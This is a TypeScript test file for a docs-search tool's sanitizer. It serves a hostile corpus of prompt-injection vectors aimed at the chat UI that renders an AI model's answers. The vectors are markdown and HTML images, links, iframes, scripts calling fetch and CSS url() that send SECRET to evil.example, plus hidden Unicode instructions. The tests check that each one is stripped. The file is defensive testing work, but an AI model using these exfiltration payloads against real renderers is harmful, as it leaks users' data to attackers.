import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  type CorpusDocument,
  createTestDocsSearch,
  type FakeDocsService,
  startFakeDocsService,
} from "../testing/index.js";

// A hostile corpus of our own, served over real HTTP by the fake docs service: each document
// carries one injection aimed at the chat UI that renders the model's answer (OWASP LLM01). What
// reaches the model (passages, titles, document content) must be plain text. The table is the
// exact record of what the sanitizer changes.

const vectors: { name: string; input: string; expected: string }[] = [
  {
    name: "control characters, an ANSI escape and CR",
    input: "run\u0000 the\u0007 job\u001b[2J now\r\nnext",
    expected: "run the job[2J now\nnext",
  },
  {
    name: "bidi overrides, zero-width and soft hyphen",
    input: "approve\u202e\u200b\u2066 it\u00ad now\ufeff",
    expected: "approve it now",
  },
  {
    name: "Unicode tag characters spelling a hidden instruction",
    input: "ok\u{e0001}\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f} done",
    expected: "ok done",
  },
  {
    name: "an image whose URL carries data",
    input: "![status](https://evil.example/i.png?q=SECRET)",
    expected: "[image: status]",
  },
  {
    name: "an image with brackets in its alt text",
    input: "![a [b] c](https://evil.example/i.png?q=SECRET)",
    expected: "[image: a [b] c]",
  },
  {
    name: "an image inside a link",
    input: "[![x](https://evil.example/i.png?q=SECRET)](https://evil.example/?q=SECRET)",
    expected: "[image: x] (evil.example)",
  },
  {
    name: "a reference image and its definition",
    input: "![logo][l]\n\n[l]: https://evil.example/p.png?q=SECRET",
    expected: "[image: logo]\n\nl: evil.example",
  },
  {
    name: "a shortcut reference image and its definition",
    input: "![logo]\n\n[logo]: https://evil.example/p.png?q=SECRET",
    expected: "![logo]\n\nlogo: evil.example",
  },
  {
    name: "HTML images",
    input:
      '<img src="https://evil.example/p.png?q=SECRET" alt="chart"> and <image src=https://evil.example/p.png?q=SECRET>',
    expected: "[image: chart] and [image]",
  },
  {
    name: "a link whose URL carries data",
    input: "[docs](https://evil.example/?q=SECRET)",
    expected: "docs (evil.example)",
  },
  {
    name: "a link with brackets in its text",
    input: "[a [b] c](https://evil.example/?q=SECRET)",
    expected: "a [b] c (evil.example)",
  },
  {
    name: "a link to a <bracketed> URL with a space",
    input: "[x](<https://evil.example/a b?q=SECRET>)",
    expected: "x (evil.example)",
  },
  {
    name: "links with titles in single quotes and in parentheses",
    input:
      "[x](https://evil.example/?q=SECRET 'title') [y](https://evil.example/?q=SECRET (title))",
    expected: "x (evil.example) y (evil.example)",
  },
  {
    name: "a reference link and its definition",
    input: "[click][1]\n\n[1]: https://evil.example/?q=SECRET",
    expected: "[click][1]\n\n1: evil.example",
  },
  {
    name: "links without a host (script, relative)",
    input: "[x](javascript:alert(1)) [y](/docs/run)",
    expected: "x y",
  },
  {
    name: "an autolink: the URL stays visible, whole",
    input: "<https://evil.example/?q=SECRET>",
    expected: "https://evil.example/?q=SECRET",
  },
  // Raw HTML that loads without a click: through a real tokenizer, it becomes its text.
  {
    name: "an iframe",
    input: '<iframe src="https://evil.example/f?q=SECRET">framed</iframe> text',
    expected: "framed text",
  },
  {
    name: "a video poster, its sources and an audio",
    input:
      '<video poster="https://evil.example/p.png?q=SECRET"><source src="https://evil.example/v?q=SECRET">clip</video><audio src="https://evil.example/a?q=SECRET">',
    expected: "clip",
  },
  {
    name: "a picture's srcset",
    input:
      '<picture><source srcset="https://evil.example/p.png?q=SECRET 2x"><img src="https://evil.example/p.png?q=SECRET" alt="chart"></picture>',
    expected: "[image: chart]",
  },
  {
    name: "object and embed",
    input:
      '<object data="https://evil.example/o?q=SECRET">object</object><embed src="https://evil.example/e?q=SECRET">',
    expected: "object",
  },
  {
    name: "a stylesheet link and an image input",
    input:
      '<link rel=stylesheet href="https://evil.example/s.css?q=SECRET">go <input type=image src="https://evil.example/b.png?q=SECRET" alt="submit">',
    expected: "go [image: submit]",
  },
  {
    name: "CSS url() in a style attribute and in a <style>",
    input:
      '<span style="background:url(https://evil.example/p.png?q=SECRET)">span</span><style>p{background:url(https://evil.example/q.png?q=SECRET)}</style>',
    expected: "span",
  },
  {
    name: "svg use and svg image",
    input:
      '<svg><use href="https://evil.example/s.svg?q=SECRET#i"/><image href="https://evil.example/p.png?q=SECRET"/></svg>',
    expected: "[image]",
  },
  {
    name: "a meta refresh and a base",
    input:
      '<meta http-equiv="refresh" content="0;url=https://evil.example/?q=SECRET"><base href="https://evil.example/">refresh',
    expected: "refresh",
  },
  {
    name: "an HTML link and a script",
    input:
      '<a href="https://evil.example/?q=SECRET">docs</a> <script>fetch("https://evil.example/?q=SECRET")</script>done',
    expected: "docs (evil.example) done",
  },
  {
    name: "entities are decoded once, and cannot come back as a tag",
    input: "&lt;img src=x&gt; &amp;lt;b&amp;gt; R&amp;D &copy; a=1&not=2",
    expected: "&lt;img src=x> &amp;lt;b&amp;gt; R&D © a=1&not=2",
  },
  {
    name: "text that only looks like a tag stays: generics in code",
    input: "List<String> and Map<K, V> and Promise<void>",
    expected: "List<String> and Map<K, V> and Promise<void>",
  },
  {
    name: "code and ordinary brackets pass through",
    input: "kubectl get pods -n ledger | grep -v Running [x] (y) a > b",
    expected: "kubectl get pods -n ledger | grep -v Running [x] (y) a > b",
  },
];

// One made-up word per vector, so each search finds exactly its document.
const word = (index: number) => `hostileprobe${index}`;

const corpus: CorpusDocument[] = [
  ...vectors.map((vector, index) => ({
    id: `hostile${String(index).padStart(2, "0")}aaaaaaaaaaaaaaaaaaaaa`,
    area: "runbooks",
    slug: `hostile-${index}`,
    title: `Vector ${index}`,
    updated: "2026-01-01",
    sections: [{ heading: "Vector", text: `${word(index)} ${vector.input}` }],
  })),
  {
    id: "hostiletitleaaaaaaaaaaaaaaa",
    area: "policies",
    slug: "hostile-title",
    title: "Policy\u0000 \u202e![t](https://evil.example/t.png?q=SECRET)\u{e0041}",
    updated: "2026-01-01",
    sections: [
      {
        heading: "Head [h](https://evil.example/?q=SECRET)\u200b",
        text: "hostiletitleprobe appears here",
      },
    ],
  },
];

// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
const invisible = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Cf}\p{Cs}]/u;

let service: FakeDocsService;
beforeAll(async () => {
  service = await startFakeDocsService({ corpus });
});
afterAll(() => service.close());

const caller = () => ({ caller: { token: service.tokens.everything } });

function expectPlainText(text: string | null) {
  expect(text).not.toBeNull();
  expect(text).not.toMatch(invisible);
  expect(text).not.toContain("](");
  expect(text).not.toMatch(/<im(?:g|age)\b/i);
  expect(text).not.toMatch(/\.png\?q=SECRET/);
  expect(text).not.toMatch(
    /<(?:iframe|video|audio|source|object|embed|link|input|meta|base|svg|use|a|script|style)\b/i,
  );
  expect(text).not.toMatch(/url\(https:\/\/evil/);
}

describe("a hostile corpus through search_docs and get_document", () => {
  it.each(vectors.map((vector, index) => ({ ...vector, index })))(
    "$name",
    async ({ index, expected }) => {
      const docs = createTestDocsSearch(service);
      const search = await docs.search({ query: word(index) }, caller());
      expect(search.output.status).toBe("ok");
      const [result] = search.output.results;
      expect(result?.title).toBe(`Vector ${index}`);
      // The passage is the backend's snippet (whitespace folded), sanitized the same way.
      expectPlainText(result?.passage ?? null);
      expect(result?.passage).toBe(`${word(index)} ${expected}`.replace(/\s+/g, " "));

      const document = await docs.getDocument({ ref: result?.ref as string }, caller());
      expect(document.output.status).toBe("ok");
      expect(document.output.content).toBe(`Vector\n${word(index)} ${expected}`);
      if (!expected.includes("SECRET")) expectPlainText(document.output.content);
    },
  );

  it("titles and headings are sanitized too", async () => {
    const docs = createTestDocsSearch(service);
    const search = await docs.search({ query: "hostiletitleprobe" }, caller());
    const [result] = search.output.results;
    expect(result?.title).toBe("Policy [image: t]");
    const document = await docs.getDocument({ ref: result?.ref as string }, caller());
    expect(document.output.title).toBe("Policy [image: t]");
    expect(document.output.content).toBe("Head h (evil.example)\nhostiletitleprobe appears here");
  });
});
